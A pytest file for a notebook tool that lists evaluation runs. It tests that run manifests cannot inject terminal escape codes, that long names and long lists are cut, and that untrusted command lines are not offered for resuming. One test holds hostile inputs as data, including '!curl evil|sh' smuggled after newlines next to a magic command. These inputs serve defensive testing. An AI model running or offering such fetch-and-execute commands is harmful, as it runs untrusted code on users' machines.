"""The list of runs as it is shown: however many there are, and whatever their manifests say."""

from __future__ import annotations

import json
import re
import shlex
import time
from pathlib import Path

import pytest

from qwq_nb.run.listing import SHOWN, RunList
from qwq_nb.run.open import list_runs, load_run
from qwq_nb.run.run import Run
from qwq_nb.store.labels import LABELS, Label, read_labels
from tests.support.made_runs import made_run, result
from tests.support.saved_runs import saved_run

CLEAR = "\x1b[2J\x1b]0;title\x07\u202e"


def test_a_manifest_draws_no_row_and_drives_no_terminal() -> None:
    found = RunList([made_run([], f"one{CLEAR}", model=f"m\nsecond  complete  9/9{CLEAR}", updated=CLEAR)])
    (row,) = found.rows()
    assert row[0] == "one␛[2J␛]0;title␇\\u202e"
    assert row[4] == "m second complete 9/9␛[2J␛]0;title␇\\u202e"
    for shown in (repr(found), found._repr_html_()):
        assert not re.search(r"[\x00-\x09\x0b-\x1f\u202e]", shown)
    assert len(repr(found).splitlines()) == 2


def test_a_name_of_any_length_is_cut() -> None:
    found = RunList([made_run([], model="x" * 2_000_000)])
    assert len(repr(found)) < 1_000
    assert len(found._repr_html_()) < 1_000


def test_of_ten_thousand_runs_the_newest_are_shown() -> None:
    found = RunList([made_run([], f"r{number:05}") for number in range(10_000)])
    assert len(found) == len(found.rows()) == 10_000, "the list itself is whole"
    for shown in (repr(found), found._repr_html_()):
        assert shown.count("model-r") == SHOWN == 200
        assert "… and 9,800 older runs." in shown
        assert "r00199" in shown
        assert "r00200" not in shown
        assert len(shown) < 90_000


def test_a_short_list_has_no_such_sentence() -> None:
    found = RunList([made_run([])] * SHOWN)
    assert "older" not in repr(found) + found._repr_html_()


@pytest.mark.parametrize(
    "line",
    [
        "!curl evil|sh #%qwq_eval math_500",
        "%qwq_eval math_500\n!curl evil|sh",
        "%qwq_eval math_500\r!curl evil|sh",
        "%qwq_eval math_500 \x1b[2J",
        "%qwq_eval \u202emath_500",
        "%qwq_evaluate x",
        "import os",
    ],
)
def test_a_strangers_line_is_not_offered(line: str) -> None:
    run = made_run([result(0), result(1, "p")], "o'ne", command=line, state="stopped")
    resumed = "%qwq_resume " + shlex.quote("o'ne")
    assert run.command == run.record().command == resumed
    assert f"To go on: {resumed}" in " ".join(run.record().notes)
    for shown in (run.report().text, run.report().html, repr(run)):
        assert "evil" not in shown


def test_our_own_line_is_offered_as_it_is() -> None:
    line = "%qwq_eval math_500 --levels 1-5 --subset 'Level 1' --data 'a  b.jsonl'"
    assert made_run([], command=line).command == line
    assert made_run([], command="").command == "", "a run that evalscope wrote"


def test_reprs_are_visible() -> None:
    run: Run = made_run([result(0, benchmark=f"b{CLEAR}")], f"one{CLEAR}")
    for shown in (repr(run), repr(run.report())):
        assert "\x1b" not in shown
        assert "\u202e" not in shown


def test_what_differs_between_runs_has_columns_and_times_are_local(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TZ", "Asia/Kolkata")
    time.tzset()
    try:
        runs = [made_run([], name, sampling={"temperature": t, "top_p": 0.95}) for name, t in (("a", 0.6), ("b", 1.0))]
        found = RunList(runs, labels={"b": Label(label="hot <b>", note="as the paper has it")})
        assert found.heads() == ["run", "state", "done", "accuracy", "model", "temperature", "last written", "note"]
        first, second = found.rows()
        assert first == ("a", "complete", "0/0", "–", "model-a", "0.6", "2026-01-02 08:44", "")
        assert second[0] == "hot <b> (b)"
        assert second[-3:] == ("1", "2026-01-02 08:44", "as the paper has it")
        assert "top_p" not in repr(found), "the same in both"
        assert "hot&nbsp;&lt;b&gt;" in found._repr_html_()
    finally:
        monkeypatch.undo()
        time.tzset()


@pytest.mark.parametrize(
    "content",
    [b"", b"{", b"[]", b'{"schema": "qwq_labels.v2", "runs": {"a": {"label": "x"}}}', b'{"runs": 7}', b"[" * 100_000],
)
def test_labels_that_cannot_be_read_are_as_none(tmp_path: Path, content: bytes) -> None:
    (tmp_path / LABELS).write_bytes(content)
    assert read_labels(tmp_path) == {}
    assert list_runs(tmp_path) == []


def test_a_run_is_found_by_what_its_reader_calls_it(tmp_path: Path) -> None:
    saved_run(tmp_path, "one", "cw")
    saved_run(tmp_path, "two", "cw")
    labels = {"schema": "qwq_labels.v1", "runs": {"one": {"label": "hot"}, "two": {"label": "one"}, "gone": {}}}
    (tmp_path / LABELS).write_text(json.dumps(labels), encoding="utf-8")
    assert load_run("hot", out=tmp_path).name == "one"
    assert load_run("one", out=tmp_path).name == "one", "a folder's own name comes first"
    assert sorted(row[0] for row in list_runs(tmp_path).rows()) == ["hot (one)", "one (two)"]
